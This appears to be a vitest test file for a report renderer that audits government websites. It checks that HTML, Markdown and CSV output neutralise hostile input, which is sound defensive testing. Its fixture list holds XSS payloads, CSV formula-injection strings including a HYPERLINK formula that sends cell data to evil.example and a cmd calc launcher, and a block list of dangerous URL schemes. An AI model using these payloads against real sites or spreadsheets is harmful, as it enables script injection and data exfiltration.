import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.ts';
import { neutralise, toCsv } from '../../src/report/csv.ts';
import type { ReportInput } from '../../src/report/input.ts';
import { escapeMarkdown, markdownLink } from '../../src/report/markdown.ts';
import { escapeMarkup, markup, siteLink } from '../../src/report/markup.ts';
import { linkable, oneLine } from '../../src/report/text.ts';
import { renderReport } from '../../src/report/write.ts';
import { findingOf, governmentOf } from '../scoring/trees.ts';
import { provenanceOf, reportOf } from './country.ts';

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</style><style>*{display:none}',
  '</code></blockquote><iframe src="https://evil.example/">',
  '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '| a | b |\n|---|---|\n# 标题',
  '[点这里](javascript:alert(1))',
  '![x](http://evil.example/x.png)',
  '```\n<b>x</b>',
  '\u202egnp.exe\u202c',
  'a\u0000b\u001b[31mc\u0007',
  '\ud800lone',
  '{{7*7}}#{1+1}',
  '&lt;script&gt;',
];

/** Every text that a site, or a broken registry, could have written, set to one hostile string. */
function reportWith(text: string) {
  const government = governmentOf('510100', { name: text, province: text, region: text, group: text });
  const findings = ['smart-search', 'smart-qa', 'open-data-platform', 'api-count', 'app-count', 'privacy-policy'].map(
    (probe) =>
      findingOf(probe, {
        state: probe === 'smart-qa' ? 'unknown' : 'present',
        value: { level: 'working', title: text, [text]: text },
        reason: text,
        evidence: [
          { url: text, quote: text, capture: text },
          { url: `javascript:alert("${text}")`, quote: text, capture: text },
          { url: `https://example.gov.cn/?q=${text}`, quote: text, capture: text },
        ],
      }),
  );
  const review = { id: 1, who: text, when: text, why: text };
  const claim = { state: 'present' as const, value: { level: text } };
  const machine = { ...claim, confidence: 0.5, reason: text };
  const [first] = findings;
  if (first !== undefined)
    findings[0] = { ...first, review: { ...review, status: 'applied', machine, verdict: claim } };
  const input = reportOf([government], findings, { title: text, ...hostileOrigin(text, findings) });
  return renderReport(input, { language: 'zh', formats: ['html', 'md', 'csv', 'json'] });
}

/** Reviews, runs and corrections whose every text is hostile. */
function hostileOrigin(text: string, findings: readonly Finding[]): Partial<ReportInput> {
  const base = provenanceOf(findings.length);
  const edition = { name: text, year: 2023, note: text, frozen: text, sha256: text, derivedFrom: text };
  const successor = { name: text, sha256: text, frozen: text, note: text };
  const erratum = { id: 1, edition: text, who: text, when: text, what: text, sha256: text };
  const run = { id: text, kind: null, started: text, finished: text, toolVersion: text, configHash: text };
  const claim = { state: 'present' as const, value: { level: text } };
  const withdrawal = { id: 2, who: text, when: text, why: text };
  const [review] = findings.flatMap(({ government, probe }) => [
    { id: 1, government, probe, run: text, observed: text, machine: claim, machineHash: text, ...claim },
  ]);
  return {
    provenance: {
      ...base,
      sources: [text],
      edition: { ...edition, replaces: { name: text, sha256: text }, replacedBy: successor, errata: [erratum] },
      runs: [{ ...run, findings: 1, carried: 0 }],
      program: text,
      pack: { title: text, hash: text },
    },
    reviews:
      review === undefined
        ? []
        : [
            { ...review, who: text, when: text, why: text, status: 'open', withdrawal: null },
            { ...review, id: 3, who: text, when: text, why: text, status: 'withdrawn', withdrawal },
          ],
  };
}

interface Node {
  readonly type: string;
  readonly name?: string;
  readonly attribs?: Readonly<Record<string, string>>;
  readonly children?: readonly unknown[];
}

function elements(html: string): Node[] {
  const found: Node[] = [];
  const walk = (node: Node) => {
    if (node.name !== undefined) found.push(node);
    for (const child of node.children ?? []) walk(child as Node);
  };
  walk(parseDocument(html) as unknown as Node);
  return found;
}

type Files = Awaited<ReturnType<typeof reportWith>>;
const textIn = (files: Files, name: string) => String(files.get(name) ?? '');
const pages = ['bulletin.html', 'cities/510100.html'];
const plainFiles = await reportWith('无害');

const cases = await Promise.all(hostile.map(async (text) => ({ text, files: await reportWith(text) })));

describe.each(cases)('$text', ({ text, files }) => {
  it.each(pages)('adds no element, no handler and no link of another kind to %s', (name) => {
    const page = elements(textIn(files, name));
    const kinds = (nodes: readonly Node[]) =>
      nodes.map((node) => node.name).filter((kind) => kind !== 'a' && kind !== 'span');
    expect(kinds(page)).toEqual(kinds(elements(textIn(plainFiles, name))));
    for (const { attribs = {} } of page) {
      for (const [name, value] of Object.entries(attribs)) {
        expect(name).not.toMatch(/^on/iu);
        if (name === 'href') expect(value).toMatch(/^(?:#|cities\/\d+\.html$|\.\.\/bulletin\.html#|https?:\/\/)/u);
      }
    }
  });

  it('cannot become markup, a picture, a heading or a table in Markdown', () => {
    const lines = textIn(files, 'bulletin.md').split('\n');
    const plain = textIn(plainFiles, 'bulletin.md').split('\n');
    const shape = (line: string) => line.replaceAll(/\\./gu, '').match(/^[#>|-]+/u)?.[0] ?? '';
    expect(lines.map(shape)).toEqual(plain.map(shape));
    for (const line of lines) {
      const bare = line.replaceAll(/\\./gu, '').replaceAll(/\(<https?:[^<>\s]*>\)/gu, '');
      expect(bare).not.toMatch(/<|!\[|\]\((?!cities\/)|```|[a-z]:\/\//u);
    }
  });

  it('is no formula in any table, and comes back as one cell', () => {
    for (const [name, content] of files) {
      if (!name.endsWith('.csv')) continue;
      const rows: string[][] = parse(String(content), { bom: true });
      expect(new Set(rows.map((row) => row.length)).size).toBe(1);
      for (const cell of rows.flat()) {
        if (!/^-?\d+(?:\.\d+)?$/u.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
      }
    }
  });

  it('leaves the JSON readable', () => {
    const report: unknown = JSON.parse(textIn(files, 'report.json'));
    expect(report).toMatchObject({ title: text });
  });

  it('shows no control or reordering character in the bulletins', () => {
    for (const name of [...pages, 'bulletin.md']) {
      expect(textIn(files, name)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069\ud800]/u);
    }
  });
});

describe('linkable', () => {
  it.each([
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\nscript:alert(1)',
    ' data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    'ftp://example.cn/',
    '//example.cn/',
    '/relative',
    'https://user:password@example.cn/',
    `https://example.cn/${'x'.repeat(3000)}`,
    '',
  ])('refuses %j', (address) => {
    expect(linkable(address)).toBeNull();
    expect(siteLink(address, 'x').text).toBe('<span>x</span>');
    expect(markdownLink(address, 'x')).toBe('x');
  });

  it('keeps a plain address, and its ampersands whole in both formats', () => {
    const address = 'http://www.例子.cn/a b?x=1&copy=2|3)';
    expect(linkable(address)).toBe('http://www.xn--fsqu00a.cn/a%20b?x=1&copy=2|3)');
    expect(siteLink(address, '<b>').text).toContain('href="http://www.xn--fsqu00a.cn/a%20b?x=1&amp;copy=2|3)"');
    expect(markdownLink(address, 'x')).toBe('[x](<http://www.xn--fsqu00a.cn/a%20b?x=1&amp;copy=2%7C3%29>)');
  });
});

/** Plain characters, and pieces that Markdown gives a meaning, in any order. */
const markdownText = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 3 }),
      fc.constantFrom('www.', 'http://', '1.', '- ', '](', '![', '<b>', '#', '\\'),
    ),
  )
  .map((pieces) => pieces.join(''));

describe('properties', () => {
  it('gives back any text through the page', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const [root] = elements(markup`<p title="${text}">${text}</p>`.text);
        expect(root?.attribs?.title).toBe(oneLine(text));
        expect(escapeMarkup(text)).not.toMatch(/[<>"'`]/u);
      }),
    );
  });

  it('leaves no bare punctuation that Markdown could take for markup', () => {
    fc.assert(
      fc.property(markdownText, (text) => {
        expect(escapeMarkdown(text).replaceAll(/\\[^\s]/gu, 'x')).not.toMatch(
          /[<>`*_[\]|#~@]|^[-+=]|^\d+[.)](?:\s|$)|www\.|[a-z]:\/\/|&(?!amp;|lt;|gt;)/iu,
        );
      }),
    );
  });

  it('never starts a cell like a formula, and leaves numbers alone', () => {
    fc.assert(
      fc.property(fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true }), (text, number) => {
        expect(neutralise(text)).not.toMatch(/^[\s"]*[=+\-@]/u);
        const [, row]: string[][] = parse(toCsv({ head: ['a', 'b'], rows: [[number, text]] }), { bom: true });
        expect(Number(row?.[0])).toBe(number === 0 ? 0 : number);
        expect(row?.[1]).toBe(neutralise(text));
      }),
    );
  });

  it('keeps a negative number a number', () => {
    expect(toCsv({ head: ['a'], rows: [[-1.5], ['-1.5'], [null]] })).toBe("\ufeffa\r\n-1.5\r\n'-1.5\r\n\r\n");
  });
});
